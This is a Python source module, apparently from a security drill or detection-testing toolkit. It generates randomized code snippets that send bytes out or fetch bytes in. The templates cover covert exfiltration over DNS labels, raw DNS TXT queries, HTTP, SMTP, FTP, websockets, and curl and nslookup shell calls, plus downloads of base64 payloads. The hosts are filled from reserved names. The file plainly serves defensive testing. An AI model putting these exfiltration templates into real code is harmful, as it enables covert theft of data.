"""Ways out and ways in: sending bytes away, and fetching bytes, by every road Python has.

All hosts are reserved names or documentation addresses: nothing answers.
"""

from __future__ import annotations

import re

from doorward.drill.python_code.draft import Draft
from doorward.drill.python_code.literals import text_expression

__all__ = ["FETCHES", "SENDS", "fetcher", "sender"]

# Each takes one bytes argument. {module:…} becomes an expression for that module.
SENDS: dict[str, str] = {
    "dns-a": """
        def $send($data):
            $text = {base64}.b32encode($data[:30]).decode().rstrip("=").lower()
            try:
                {socket}.getaddrinfo($text + "." + HOST, None)
            except OSError:
                return None
    """,
    "dns-labels": """
        def $send($data):
            $text = {binascii}.hexlify($data).decode()
            for $i in range(0, len($text), 60):
                $name = "%s.%d.%s" % ($text[$i : $i + 60], $i, HOST)
                try:
                    {socket}.gethostbyname($name)
                except Exception:
                    break
    """,
    "dns-udp-txt": """
        def $send($data):
            $query = {struct}.pack(">HHHHHH", NUMBER, 256, 1, 0, 0, 0)
            for $label in ($data[:24].hex() + "." + HOST).split("."):
                $query += bytes([len($label)]) + $label.encode()
            $sock = {socket}.socket({socket}.AF_INET, {socket}.SOCK_DGRAM)
            $sock.settimeout(5)
            $sock.sendto($query + b"\\x00\\x00\\x10\\x00\\x01", (ADDRESS, 53))
            return $sock.recvfrom(512)[0]
    """,
    "urllib-post": """
        def $send($data):
            $request = {urllib.request}.Request(URL, data=$data, headers={"User-Agent": AGENT})
            return {urllib.request}.urlopen($request, timeout=NUMBER).read()
    """,
    "urllib-query": """
        def $send($data):
            $text = {urllib.parse}.quote({base64}.b64encode($data))
            try:
                {urllib.request}.urlopen(URL + "?q=" + $text, timeout=3)
            except Exception:
                pass
    """,
    "http-client": """
        def $send($data):
            $link = {http.client}.HTTPSConnection(HOST, timeout=NUMBER)
            $link.request("POST", "/PATH", body=$data)
            return $link.getresponse().status
    """,
    "requests": """
        def $send($data):
            return {requests}.post(URL, data={"d": $data.hex()}, timeout=5).ok
    """,
    "socket": """
        def $send($data):
            with {socket}.create_connection((HOST, NUMBER), timeout=4) as $sock:
                $sock.sendall(len($data).to_bytes(4, "big") + $data)
    """,
    "udp": """
        def $send($data):
            $sock = {socket}.socket({socket}.AF_INET, {socket}.SOCK_DGRAM)
            $sock.sendto({zlib}.compress($data), (ADDRESS, NUMBER))
            $sock.close()
    """,
    "smtp": """
        def $send($data):
            $link = {smtplib}.SMTP(HOST, 587, timeout=NUMBER)
            $link.sendmail("FROM@" + HOST, ["TO@" + HOST], $data.hex())
            $link.quit()
    """,
    "ftp": """
        def $send($data):
            $link = {ftplib}.FTP(HOST, timeout=NUMBER)
            $link.login()
            $link.storbinary("STOR PATH", {io}.BytesIO($data))
    """,
    "websocket": """
        def $send($data):
            $plain = {socket}.create_connection((HOST, 443))
            $sock = {ssl}.create_default_context().wrap_socket($plain, server_hostname=HOST)
            $head = "GET /PATH HTTP/1.1\\r\\nHost: " + HOST + "\\r\\nUpgrade: websocket\\r\\n\\r\\n"
            $sock.sendall($head.encode())
            $sock.sendall(bytes([0x82, len($data) & 127]) + $data)
    """,
    "asyncio": """
        async def $send($data):
            $reader, $writer = await {asyncio}.open_connection(HOST, NUMBER)
            $writer.write($data)
            await $writer.drain()
    """,
    "curl": """
        def $send($data):
            return {subprocess}.run(["curl", "-s", "-X", "POST", "-d", "@-", URL], input=$data, check=False)
    """,
    "nslookup": """
        def $send($data):
            {os}.system("nslookup -type=TXT " + $data[:20].hex() + "." + HOST)
    """,
}

FETCHES: dict[str, str] = {
    "urllib": """
        def $fetch():
            return {urllib.request}.urlopen(URL, timeout=NUMBER).read()
    """,
    "http-client": """
        def $fetch():
            $link = {http.client}.HTTPSConnection(HOST)
            $link.request("GET", "/PATH")
            return $link.getresponse().read()
    """,
    "requests": """
        def $fetch():
            return {requests}.get(URL, timeout=10).content
    """,
    "socket": """
        def $fetch():
            $sock, $parts = {socket}.create_connection((HOST, NUMBER)), []
            while True:
                $part = $sock.recv(4096)
                if not $part:
                    return b"".join($parts)
                $parts.append($part)
    """,
    "dns-txt": """
        def $fetch():
            $query = {struct}.pack(">6H", NUMBER, 0x100, 1, 0, 0, 0)
            for $label in HOST.split("."):
                $query += bytes([len($label)]) + $label.encode()
            $query += b"\\x00\\x00\\x10\\x00\\x01"
            $sock = {socket}.socket({socket}.AF_INET, {socket}.SOCK_DGRAM)
            $sock.sendto($query, (ADDRESS, 53))
            return $sock.recv(4096)[len($query) + 12 :]
    """,
    "curl": """
        def $fetch():
            return {subprocess}.check_output(["curl", "-fsSL", URL])
    """,
    "json": """
        def $fetch():
            with {urllib.request}.urlopen(URL) as $answer:
                return {base64}.b64decode({json}.load($answer)["PATH"])
    """,
}


def _filled(draft: Draft, text: str) -> str:
    chance = draft.chance
    for module in sorted({part.split("}")[0] for part in text.split("{")[1:]}):
        if module and '"' not in module:
            text = text.replace("{" + module + "}", draft.use(module))
    swaps = {
        "HOST": text_expression(draft, chance.host()),
        "ADDRESS": repr(chance.address()),
        "URL": text_expression(draft, chance.url()),
        "AGENT": repr(f"{chance.word()}/{chance.number(1, 9)}.{chance.number(0, 20)}"),
        "NUMBER": str(chance.number(3, 60000)),
        "PATH": chance.word(),
        "FROM": chance.word(),
        "TO": chance.word(),
    }
    for word in ("HOST", "URL"):
        if word in text and chance.maybe(0.4):
            swaps[word] = draft.const(swaps[word])
        else:
            swaps[word] = f"({swaps[word]})" if not swaps[word].startswith(("'", '"')) else swaps[word]
    return re.sub(rf"\b({'|'.join(swaps)})\b", lambda match: swaps[match[1]], text)


def sender(draft: Draft, shape: str = "") -> str:
    """Define a function that sends bytes out, and give its name."""
    shape = shape or draft.chance.pick(tuple(SENDS))
    draft.define(_filled(draft, SENDS[shape]))
    return draft.names["send"]


def fetcher(draft: Draft, shape: str = "") -> str:
    """Define a function that brings bytes in, and give its name."""
    shape = shape or draft.chance.pick(tuple(FETCHES))
    draft.define(_filled(draft, FETCHES[shape]))
    return draft.names["fetch"]
